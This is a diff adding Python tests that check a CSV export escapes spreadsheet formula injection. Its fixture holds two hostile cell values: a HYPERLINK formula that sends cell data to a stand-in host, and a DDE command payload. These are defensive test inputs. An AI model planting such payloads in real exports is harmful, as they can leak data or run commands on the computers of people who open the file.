@@ -11,6 +11,7 @@ import csv
 import io
 import warnings
 from collections.abc import Iterator
+from datetime import date
 
 import pytest
 import sqlalchemy as sa
@@ -91,3 +92,59 @@ def test_an_export_that_fails_audits_nobody(lenient, fresh, monkeypatch):
     r = lenient.get(f"{EXPORT}?district=示例区", headers=auth(fresh.tokens, "admin"))
     assert r.status_code == 500
     assert _exported(fresh.engine) == []
+
+
+# -- 2. formula injection -------------------------------------------------------------------
+
+FORMULAS = {
+    "town": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "worker_id": "=cmd|' /C calc'!A0",
+}
+
+
+def test_exported_cells_never_start_a_formula(api_fresh, fresh):
+    from serving import queries
+    from serving.scoring import score_date
+    from tests.factories import person
+    from tests.serving import district
+    from tests.serving.fakes import fake_champions
+
+    row = person(person_id="p-10", program_start="2024-06-01", program_end="2027-05-31")
+    sent = api_fresh.post(
+        "/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": [row | FORMULAS]}
+    )
+    assert sent.status_code == 200, sent.text
+    score_date(fresh.engine, date.fromisoformat(district.AS_OF), fake_champions())
+    queries.forget_runs()
+    r = api_fresh.get(f"{EXPORT}?district=示例区", headers=auth(fresh.tokens, "admin"))
+    assert r.status_code == 200
+    (mine,) = [row for row in _csv(r.content) if row["person_id"] == "p-10"]
+    assert mine["town"] == "'" + FORMULAS["town"]
+    assert mine["worker_id"] == "'" + FORMULAS["worker_id"]
+    for line in _csv(r.content):
+        for column, value in line.items():
+            if column not in ("p", "change"):  # numbers; a negative change stays a number
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("东镇", "东镇"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (-0.25, -0.25),
+        (3, 3),
+        (None, None),
+    ],
+)
+def test_safe_cell(value, cell):
+    from serving.exports import safe_cell
+
+    assert safe_cell(value) == cell
